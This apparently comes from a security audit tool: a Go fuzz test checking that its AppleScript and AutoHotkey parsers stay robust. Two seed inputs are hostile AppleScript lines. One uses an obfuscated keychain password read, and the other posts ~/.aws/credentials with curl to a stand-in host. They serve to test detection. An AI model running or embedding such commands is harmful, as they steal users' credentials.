package audit

import (
	"strings"
	"testing"
)

// FuzzScriptHostReaders: AppleScript's and AutoHotkey's readers
// (appleScriptCommentsBlanked, appleScriptCode, appleScriptShellCommands,
// ahkCommentsBlanked, ahkCode) never panic; the rewrites keep the text's
// lines, the comment blankers its length too, and every rebuilt do shell
// script lies inside the text, so a finding's line is the line of the
// file.
func FuzzScriptHostReaders(f *testing.F) {
	for _, s := range []string{
		"set t to \"/usr/bin/\" & \"sec\" & \"urity\"\ndo shell script t & \" find-generic-password -s \" & quoted form of s & \" -w\"",
		"property u : \"https://x.example\"\ndo shell script \"curl -d @\" & (POSIX path of (path to home folder)) & ¬\n  \".aws/credentials \" & u with administrator privileges",
		"(* a (* nested *) comment -- \"x\n*) -- tail \"q\n# hash |a -- b| \"c \\\" d\"",
		"do shell script (\"a\" & (\"b\" & c)) & my d's e",
		"do shell script",
		"\"unterminated & \"x",
		"x := \"a\" \"b\" . \"c\" ; comment \"d\"\n/*\nblock\n*/ y := 'e' `\" 'f'",
		"s := \"a;b\" ;c\n/* open",
		"set ¬",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		lines := strings.Count(s, "\n")
		for name, fn := range map[string]func(string) string{
			"as-comments": appleScriptCommentsBlanked, "as-code": appleScriptCode,
			"ahk-comments": ahkCommentsBlanked, "ahk-code": ahkCode,
		} {
			out := fn(s)
			if got := strings.Count(out, "\n"); got != lines {
				t.Fatalf("%s: %d lines, want %d, for %q", name, got, lines, s)
			}
			if strings.HasSuffix(name, "comments") && len(out) != len(s) {
				t.Fatalf("%s: length %d, want %d, for %q", name, len(out), len(s), s)
			}
		}
		code := appleScriptCommentsBlanked(s)
		for _, c := range appleScriptShellCommands(code) {
			if c.s < 0 || c.e > len(code) || c.s > c.e {
				t.Fatalf("command span %d..%d outside %d bytes, for %q", c.s, c.e, len(code), s)
			}
		}
		appleScriptSend(code)
		appleScriptShellCred(code)
		ahkSend(ahkCommentsBlanked(s))
	})
}
